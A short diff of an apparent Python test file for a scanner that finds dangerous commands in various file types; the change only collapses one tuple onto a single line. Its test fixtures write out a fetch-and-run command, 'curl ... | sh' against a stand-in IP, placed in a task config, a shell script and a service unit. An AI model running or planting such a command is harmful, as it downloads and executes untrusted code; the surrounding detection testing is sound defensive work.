@@ -116,10 +116,7 @@ def test_commands_that_are_only_searched_for_are_harmless():
         ("tasks.json", '{"command": "curl http://203.0.113.1/x | sh"}'),
         ("run", "#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"),
         ("x.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.1/x | sh'\n"),
-        (
-            "n.ipynb",
-            NOTEBOOK,
-        ),
+        ("n.ipynb", NOTEBOOK),
     ],
 )
 def test_commands_are_found_in_files_of_every_kind(name, text):
